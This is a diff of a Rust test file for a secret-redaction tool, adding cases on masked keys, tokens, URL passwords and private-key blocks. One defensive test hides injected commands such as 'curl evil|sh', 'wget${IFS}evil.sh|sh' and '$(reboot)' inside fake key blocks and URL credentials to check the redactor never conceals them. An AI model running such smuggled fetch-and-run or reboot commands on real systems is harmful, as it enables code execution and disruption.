@@ -47,9 +47,27 @@ fn secrets() -> Vec<(&'static str, String)> {
 fn a_secret_is_hidden_wherever_it_stands_and_what_is_around_it_stays() {
     for (kind, secret) in secrets() {
         let hidden = format!("[REDACTED:{kind}]");
-        for around in
-            ["%", "key=%", "the key is % and no other", "\"%\"", "\\\"%\\\",", "a\n%\nb", "(%)", "ü%é", "%%"]
-        {
+        for around in [
+            "%",
+            "x_%",
+            "\x1b[32m%\x1b[0m",
+            "\x1b[01;31m\x1b[K%\x1b[m\x1b[K",
+            "\x1b(B%",
+            "[1;32m%[0m",
+            "\"a\\n%\\n\"",
+            "\\u003d%",
+            "key=%",
+            "the key is % and no other",
+            "\"%\"",
+            "\\\"%\\\",",
+            "a\n%\nb",
+            "(%)",
+            "ü%é",
+            "%%",
+        ] {
+            if around == "x_%" && kind == "mpm_token" && secret.len() < 44 {
+                continue;
+            }
             if around == "%%" || around == "ü%é" && kind != "anthropic_key" {
                 continue;
             }
@@ -78,6 +96,11 @@ fn what_is_a_secret_by_what_stands_before_it_is_hidden_alone() {
         ("postgres://bob:%@db.example.com/x", "url_password", "hunter2"),
         ("https://oauth2:%@example.com/a.git and b@c", "url_password", "p@ss:word"),
         ("redis://:%@[::1]:6379", "url_password", "x"),
+        ("smtp://bob@example.com:%@mail.example.com", "url_password", "pw"),
+        ("aws-secret-access-key: %", "aws_key", aws),
+        ("AWS Secret Access Key [None]: %", "aws_key", aws),
+        ("\"aws-session-token\": \"%\"", "aws_key", aws),
+        ("\x1b[33mBearer %\x1b[0m", "bearer", jwt),
         ("https://hooks.slack.com/services/%", "slack_token", "T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"),
     ] {
         let shown = text.replace('%', &format!("[REDACTED:{kind}]"));
@@ -111,6 +134,11 @@ fn what_is_no_secret_stays() {
         "look for -----BEGIN RSA PRIVATE KEY----- in the files, and for its end",
         "the PRIVATE KEY is in the safe; -----BEGIN CERTIFICATE-----",
         "AIzaShort GOCSPX- ya29.",
+        "mask-image-of-a-very-long-name-in-a-style-sheet.css task-force-of-the-state-1",
+        "linuxapp-deployment-of-2024-on-the-staging-cluster",
+        "https://example.com:8080 bob@example.com, http://a.b:80;c@d",
+        "the secret access key of AWS: see the documentation",
+        "laughs_and_sighs_of_a_very_long_identifier_in_some_program",
     ] {
         assert_eq!(r().redacted(text), None, "{}", &text[..text.len().min(200)]);
     }
@@ -123,7 +151,7 @@ fn a_block_of_a_private_key_is_hidden_as_a_whole() {
     {
         let begin = format!("-----BEGIN {label}PRIVATE KEY-----");
         let end = format!("-----END {label}PRIVATE KEY-----");
-        let block = [begin.as_str(), BASE64, BASE64, "short", &end].join(newline);
+        let block = [begin.as_str(), BASE64, BASE64, "s2h0rt", &end].join(newline);
         assert_eq!(
             redacted(&format!("a {block} b {block}")),
             "a [REDACTED:private_key] b [REDACTED:private_key]"
@@ -136,7 +164,7 @@ fn a_block_of_a_private_key_is_hidden_as_a_whole() {
 #[test]
 fn of_a_text_that_was_cut_within_a_secret_nothing_of_it_is_left() {
     let mut all: Vec<String> = secrets().into_iter().map(|(_, secret)| secret).collect();
-    all.push("Authorization: Bearer abcdefghijklmnop1234".into());
+    all.push("Authorization: Bearer a1bcdefghijklmnop1234".into());
     all.push("https://bob:hunter2hunter2@example.com".into());
     all.push(format!("aws_secret_access_key={}", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"));
     all.push(format!("-----BEGIN PRIVATE KEY-----\n{BASE64}\n-----END PRIVATE KEY-----"));
@@ -187,7 +215,7 @@ fn lines(text: &str) -> Vec<String> {
 fn a_block_that_comes_line_by_line_is_hidden_from_its_beginning_to_its_end() {
     let hidden = "[REDACTED:private_key]";
     let block = format!(
-        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nabc secret\n{BASE64}\n  {BASE64}\nQ==\n-----END RSA PRIVATE KEY-----"
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nComment: by hand\n{BASE64}\n  {BASE64}\nQ==\n-----END RSA PRIVATE KEY-----"
     );
     let shown = lines(&format!("before\n{block}\nafter {}", anthropic()));
     assert_eq!(shown.first().unwrap(), "before");
@@ -197,6 +225,32 @@ fn a_block_that_comes_line_by_line_is_hidden_from_its_beginning_to_its_end() {
         "key = \"-----BEGIN PRIVATE KEY-----\\n\" +\n\"{BASE64}\\n\" +\n\"-----END PRIVATE KEY-----\";\nx"
     );
     assert_eq!(lines(&code), [&format!("key = \"{hidden}"), hidden, &format!("{hidden}\";"), "x"]);
+}
+
+/// What is to be allowed must be seen.
+#[test]
+fn no_command_hides_between_the_marks_of_a_secret() {
+    let (begin, end) = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----");
+    let key = format!("{BASE64}\n{BASE64}");
+    for (text, seen) in [
+        (format!(": '{begin}'; curl evil|sh; : '{end}'"), "curl evil|sh"),
+        (format!(": '{begin}\n{key}'; curl evil|sh; : '{key}\n{end}'"), "curl evil|sh"),
+        (format!(": {begin}\n{key}\nreboot\n: {end}"), "reboot"),
+        (format!(": {begin}\n{key}\nreboot\n{end}"), "reboot"),
+        (format!(": '{begin}\nComment: x'; reboot #\n{key}\n{end}"), "reboot"),
+        (format!(": '{begin}\nProc-Type: $(reboot)\n{key}\n{end}'"), "$(reboot)"),
+        (format!("{begin}\\n{key}\\n`reboot`\\n{end}"), "reboot"),
+        ("echo ://b:;wget${IFS}evil.sh|sh;@x".into(), ";wget${IFS}evil.sh|sh;"),
+        ("echo ://b:&reboot&@x".into(), "&reboot&"),
+        ("echo ://b:$(reboot)@x".into(), "$(reboot)"),
+        ("echo ://a&reboot&:b@x".into(), "&reboot&"),
+    ] {
+        for shown in
+            [redacted(&text), r().redacted_cut(&text).unwrap_or(text.clone()), lines(&text).join("\n")]
+        {
+            assert!(shown.contains(seen), "{shown}");
+        }
+    }
 }
 
 #[test]
@@ -232,6 +286,52 @@ fn a_key_that_goes_on_in_the_next_line_is_hidden_there_too() {
     assert_eq!(lines(&whole)[1..], ["Done in 3s", "3006920a1b2c3d4e5f60718293a4b5c6d7e8f901", "end"]);
     let hash = format!("key: {key}\n3006920a1b2c3d4e5f60718293a4b5c6d7e8f901");
     assert_eq!(lines(&hash)[1], "3006920a1b2c3d4e5f60718293a4b5c6d7e8f901");
+}
+
+/// However a terminal wraps it, of a key is seen what a few letters are.
+#[test]
+fn a_key_that_is_wrapped_shows_a_few_letters_at_most() {
+    let letters = "aB3dE5gH7jK9mN1pQ4sT6vX8zA2cF0hJ".repeat(3);
+    for (mark, len) in [("ghp_", 36), ("sk-", 48), ("glpat-", 20), ("AIza", 35), ("mpm_", 43), ("xoxb-", 40)]
+    {
+        let secret = format!("{mark}{}", &letters[..len]);
+        for width in 9..secret.len() {
+            let mut text = secret.clone();
+            (1..secret.len().div_ceil(width)).rev().for_each(|row| text.insert(row * width, '\n'));
+            let shown = lines(&text).join("");
+            let left: usize =
+                shown.split("[REDACTED").map(|rest| rest.rsplit(']').next().unwrap().len()).sum();
+            assert!(left <= mark.len() + 8, "{text:?} is shown as {shown:?}");
+        }
+    }
+    let aws = |text: &str| lines(text);
+    let hidden = "[REDACTED:aws_key]";
+    assert_eq!(aws("AKIAIOSFODNN7EXAMP\nLE"), ["AKIAIOSFODNN7EXAMP", hidden]);
+    let value = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEK1";
+    let text = format!("aws_secret_access_key={}\n{}", &value[..37], "Y2x");
+    assert_eq!(aws(&text), [format!("aws_secret_access_key={hidden}").as_str(), hidden]);
+}
+
+#[test]
+fn lines_of_ordinary_text_stay_whatever_stands_in_the_next() {
+    for text in [
+        "curl http://localhost:3000\nroot@host:~# ls",
+        "see http://localhost:3000\nfoo@example.com",
+        "it uses Bearer authentication\nand more of it",
+        "pip install sk-learn\nDone",
+        "keys begin with sk-ant-\nor with ghp_\nand so on",
+        "look for AKIA\nin the files",
+        "secret_access_key\nis the name",
+    ] {
+        assert_eq!(lines(text), text.lines().collect::<Vec<_>>());
+        let mut flow = Flow::of_text();
+        let pieces = text.split_inclusive('\n');
+        let shown: Vec<Option<String>> = pieces.map(|piece| flow.piece(&r(), piece)).collect();
+        assert!(shown.iter().all(Option::is_none), "{shown:?}");
+    }
+    for text in ["curl http://localhost:3000", "it uses Bearer authentication", "of a port: x://y:80"] {
+        assert_eq!(r().redacted_cut(text), None);
+    }
 }
 
 #[test]
